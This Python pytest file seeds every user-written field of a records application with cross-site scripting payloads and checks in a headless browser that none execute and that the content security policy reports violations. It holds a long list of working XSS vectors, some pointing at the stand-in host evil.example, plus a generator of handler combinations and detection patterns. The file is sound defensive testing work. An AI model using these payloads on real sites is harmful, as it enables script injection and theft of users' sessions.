"""Does anything that people wrote run, anywhere it is shown? In a real browser, with its policy listening (A21).

Every text of every kind of record holds every payload; so do the names of people, of the dossier, and why things were done.
``DRILL_PAYLOADS=500`` adds as many as are missing to that number, of every way out of a text, tag and handler, and looks at
all pages once for each hundred or so.
"""

import itertools
import os
import socketserver
import threading
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser
from wsgiref.simple_server import WSGIRequestHandler, WSGIServer, make_server

import pytest

from aidememoire.ledger import acts
from aidememoire.ledger.gate import Role
from aidememoire.ledger.memory import MemoryKeyring
from aidememoire.vocabulary.handling import Label
from aidememoire.vocabulary.kinds.dilemmas import DECIDED
from aidememoire.workbench import door, guards, sessions
from aidememoire.workbench.drafts import Drafts
from aidememoire.workbench.screens import front
from workbench.attacking import KIND_OF_ROUTE, sit_down, tell
from workbench.company import SLUG, Company, record_of
from workbench.sitting import OPENING, TOKEN
from workbench.test_the_canaries import HERE, pages

RUN = "window.bitten=1"
PAYLOADS = (
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT>", f"<script\n>{RUN}</script\t>",
    f"<script src=data:text/javascript,{RUN}></script>", "<script src=//evil.example/x.js></script>", f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>', f"'><img src=x onerror={RUN}>", f"`><img src=x onerror={RUN}>", f'" onfocus={RUN} autofocus x="',
    f"' onfocus={RUN} autofocus x='", f'" onmouseover="{RUN}', f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<math href=javascript:{RUN}>x</math>", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "<iframe srcdoc='<script>parent.bitten=1</script>'>", f"<iframe src=javascript:parent.{RUN}>", f"<object data=data:text/html,<script>{RUN}</script>>",
    f"<embed src=javascript:{RUN}>", f"<body onload={RUN}>", f"<details open ontoggle={RUN}>x</details>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>", f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>x</b>",
    f"<a href=javascript:{RUN}>x</a>", f"<a href='java\tscript:{RUN}'>x</a>", f"<a href=JaVaScRiPt:{RUN}>x</a>", f"<a href=&#106;avascript:{RUN}>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>x", "<form action=http://evil.example/><button>x", f"<button formaction=javascript:{RUN}>x</button>",
    f"javascript:{RUN}", f"javascript:/*--></title></style></textarea></script><svg/onload={RUN}>", f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}", "<base href=http://evil.example/>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>", "<link rel=preload as=script href=//evil.example/x.js>", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>",
    f'<!--<img src="--><img src=x onerror={RUN}//">', f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<template><script>{RUN}</script></template>",
    f"<xss onpointerenter={RUN} style=position:fixed;inset:0>x</xss>", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"';{RUN};//", f'";{RUN};//', f"${{{RUN}}}", f"{{{{constructor.constructor('{RUN}')()}}}}", "{{ desk }}{% say 'x' %}{% include 'x' %}",
    f"<div hx-get=/ hx-trigger=load hx-on::load={RUN}>x</div>", f"<div data-hx-on:click={RUN} hx-vals='js:{{x:{RUN}}}' hx-trigger=load hx-get=/>x</div>",
    "<div data-graph=//evil.example/ data-map=//evil.example/>x</div>", f"\u202e<script>{RUN}</script>", f"\x0b<script>{RUN}</script>".replace("\x0b", "\u2028"),
    "<dialog open>x</dialog><popover>x", f"<img srcset='x 1x' onerror={RUN}>", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)  # fmt: skip
OUT = (
    "",
    '"',
    "'",
    "`>",
    '">',
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</option></select>",
    "\u2028",
    "&quot;>",
)
BETWEEN = (" ", "/", "\n", "\t")
TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe", "object data=x",
        "embed src=x", "marquee", "xss tabindex=1 autofocus", "a href=x autofocus", "button autofocus", "select autofocus", "form",
        "math", "svg><animate attributeName=x dur=1s", "svg><set attributeName=x", "link rel=stylesheet href=x", "style", "p style=animation-name:x")  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "onFocusIn", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter", "onbegin",
            "onstart", "onpageshow", "OnScroll", "onwheel", "onbeforetoggle", "oncontentvisibilityautostatechange", "onmessage", "onresize")  # fmt: skip
AT_ONCE = 110


def rounds():
    """The payloads by rounds: all that were written by hand in the first, and as many drawn ones as are asked for."""
    ways = [
        f"{out}<{tag}{gap}{handler}={RUN}>"
        for out, tag, gap, handler in itertools.product(OUT, TAGS, BETWEEN, HANDLERS)
    ]
    more = max(int(os.environ.get("DRILL_PAYLOADS", "0")) - len(PAYLOADS), 0)
    # A stride that shares no factor with their number comes by every way out, tag and handler.
    drawn = [ways[n * 7919 % len(ways)] for n in range(more)]
    return [PAYLOADS, *(tuple(drawn[at : at + AT_ONCE]) for at in range(0, more, AT_ONCE))]


NAMES = ("names", "aliases", "title", "words", "wording", "behaviour", "area", "areas", "route", "name", "role")
LISTEN = """
window.reports = [];
addEventListener('securitypolicyviolation', (told) => window.reports.push(`${told.violatedDirective} ${told.blockedURI} ${told.sample}`));
"""
PLANTED = """() => [...document.querySelectorAll('*')].filter((one) => one.localName.match(
  /^(iframe|object|embed|base|math|marquee|xss|popover|video|audio|mglyph|animate)$/)
  || [...one.attributes].some((at) => at.name.startsWith('on') || at.name.startsWith('hx-on') || at.name.startsWith('data-hx-on')
     || /^\\s*(javascript|vbscript|data:text)/i.test(at.value) && ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(at.name)
     || at.value.startsWith('http://evil') || at.value.startsWith('//evil')))
  .map((one) => one.outerHTML.slice(0, 120))"""


@pytest.fixture(scope="module", params=rounds(), ids=lambda held: f"{len(held)} payloads")
def bitten(request):
    """A dossier in which every text is an attack; each begins with another payload."""
    turns, held = itertools.count(), request.param
    every = " ".join(held)

    def say(name):
        # What stands on nearly every page holds a few, each time others; every other text holds all.
        at = next(turns) * 5 % len(held)
        turned = [*held[at:], *held[:at]]
        return " ".join(turned[:5] if name in NAMES else turned)

    company, there = Company(), {}
    company.payloads = len(held)
    company.rings["lead"].me = replace(company.rings["lead"].me, name=every[:200])
    for kind in ("actor-too", *company.there):
        id = company.there[kind]
        one = record_of(kind.removesuffix("-too"), id, say, {**company.there, **there}, {"level": "AMBER"})
        written = one.written()
        changes = {name: value for name, value in written.items() if name not in ("id", "handling", *DECIDED)}
        company.lead.do(acts.revise(company.lead, id, changes, why=every))
        if kind == "dilemma":
            days = {"decided_on": date(2026, 3, 2), "review_on": date(2026, 9, 2)}
            company.lead.do(
                acts.decide(company.lead, id, decision=say(""), dissent=say(""), crosses=(), why=every, **days)
            )
    stranger = MemoryKeyring(f"<b>{held[6]}</b>")
    act = acts.grant(company.lead, stranger.me, role=Role.TEAM, clearance=Label.RED, agency=held[7], why=every[:300])
    company.lead.do(act)
    again = type(company.lead)(company.keeper, company.rings["lead"], company.lead.place)
    one, two = (acts.revise(desk, "open-actor", {"note": say("")}, why=every) for desk in (company.lead, again))
    company.lead.do(one)
    again.do(two)
    return company


class _Quiet(WSGIRequestHandler):
    def log_message(self, *_words):
        pass


class _Beside(socketserver.ThreadingMixIn, WSGIServer):
    daemon_threads = True


@pytest.fixture
def served(bitten, tmp_path, monkeypatch):
    """These pages in this process, at a port of their own."""
    from aidememoire.workbench.wsgi import application

    vault = bitten.vault("lead", Drafts(tmp_path / "drafts", b"k" * 32))
    monkeypatch.setattr(door, "_open", [vault])
    with make_server("127.0.0.1", 0, application, _Beside, _Quiet) as server:
        opening = replace(OPENING, port=server.server_port)
        for module in (guards, front):
            monkeypatch.setattr(module, "opening", lambda: opening)
        monkeypatch.setattr(type(OPENING), "lets_in", lambda self, token, now: token == TOKEN)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield opening.origin
        server.shutdown()
    sessions.end_all()


def looked_at(company):
    """One page of each template; of each kind, the record and its form."""
    once, seen = [], set()
    for where in pages(company, list(company.there.values())):
        shape = where.split("?")[0].replace(SLUG, "").split("/")
        of_kind = where.startswith(f"{HERE}record/") and shape[-2] not in ("withdraw", "history")
        name = "/".join(part for part in shape if not part.startswith("open-") and len(part) < 30)
        new = of_kind or (name not in seen and not where.startswith(f"{HERE}done/")) or "?" in where
        seen.add(name)
        # The empty workbook is no page, and the page for programmers shows nothing that people wrote.
        apart = (f"{HERE}records/", f"{HERE}import/workbook/", "/api/")
        if new and not where.startswith(apart):
            once.append(where)
    return [*once, f"{HERE}records/", f"{HERE}records/actors/", f"{HERE}records/ties/new/", f"{HERE}done/",
            f"{HERE}search/?q=%3Cscript%3Ewindow.bitten=1%3C/script%3E", f"{HERE}engagements/log/?actor=%22%3E%3Cscript%3E"]  # fmt: skip


def test_nothing_that_people_wrote_runs_or_offends_the_policy(chromium, served, bitten):
    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(LISTEN)
    page, wrong, strayed, dialogs = context.new_page(), [], [], []
    page.on("dialog", lambda one: dialogs.append(one.message) or one.dismiss())
    context.on("request", lambda one: strayed.append(one.url) if not one.url.startswith((served, "data:")) else None)
    page.on("console", lambda one: wrong.append(one.text[:200]) if "Content Security Policy" in one.text else None)
    page.goto(f"{served}/launch/{TOKEN}/")
    asked = looked_at(bitten)
    for where in asked:
        answer = page.goto(served + where)
        if "html" not in answer.headers.get("content-type", ""):
            continue
        if answer.status != 200:
            wrong.append(f"{where}: {answer.status}")
        found = page.evaluate("[window.bitten, window.reports]")
        wrong += [f"{where}: ran"] if found[0] else []
        wrong += [f"{where}: {report}" for report in found[1]]
        wrong += [f"{where}: planted {one}" for one in page.evaluate(PLANTED)]
    assert len(asked) > 80
    tell(
        f"{bitten.payloads} payloads in every text of every kind, {len(asked)} pages, {len(wrong)} executions or reports"
    )
    assert not wrong, "\n".join(wrong[:20])
    assert not strayed and not dialogs
    # Control: the listener hears, and the policy stops, what somebody would have got in.
    page.evaluate(
        "document.body.insertAdjacentElement('beforeend', Object.assign(document.createElement('img'), {src: 'http://evil.example/x'}))"
    )
    page.wait_for_function("window.reports.length > 0")
    assert any("img-src" in report for report in page.evaluate("window.reports"))
    context.close()


class Tags(HTMLParser):
    """Finds what only a payload brings into a page."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in {
            "iframe",
            "object",
            "embed",
            "base",
            "math",
            "marquee",
            "xss",
            "style",
            "video",
            "audio",
            "template",
        }:
            self.found.append(tag)
        for name, value in attrs:
            link = name in ("href", "src", "action", "formaction", "xlink:href", "data-graph", "data-map")
            if (
                name.startswith(("on", "hx-on", "data-hx"))
                or name == "style"
                or (link and not (value or "/").startswith(("/", "#", "?")))
            ):
                self.found.append(f"{tag} {name}={(value or '')[:60]}")


def test_every_page_of_every_record_is_made_of_our_own_tags(monkeypatch, tmp_path, bitten):
    """The same without a browser, for every address of every record."""
    client = sit_down(monkeypatch, bitten, "lead", Drafts(tmp_path / "drafts", b"k" * 32))
    asked, wrong = 0, []
    for where in pages(bitten, list(bitten.there.values())):
        answer = client.get(where)
        if answer.status_code == 200 and answer["Content-Type"].startswith("text/html"):
            reader = Tags()
            reader.feed(answer.content.decode())
            wrong += [(where, one) for one in reader.found]
            asked += 1
    assert asked > 150 and not wrong, wrong[:10]
    assert set(KIND_OF_ROUTE.values()) <= set(bitten.there)
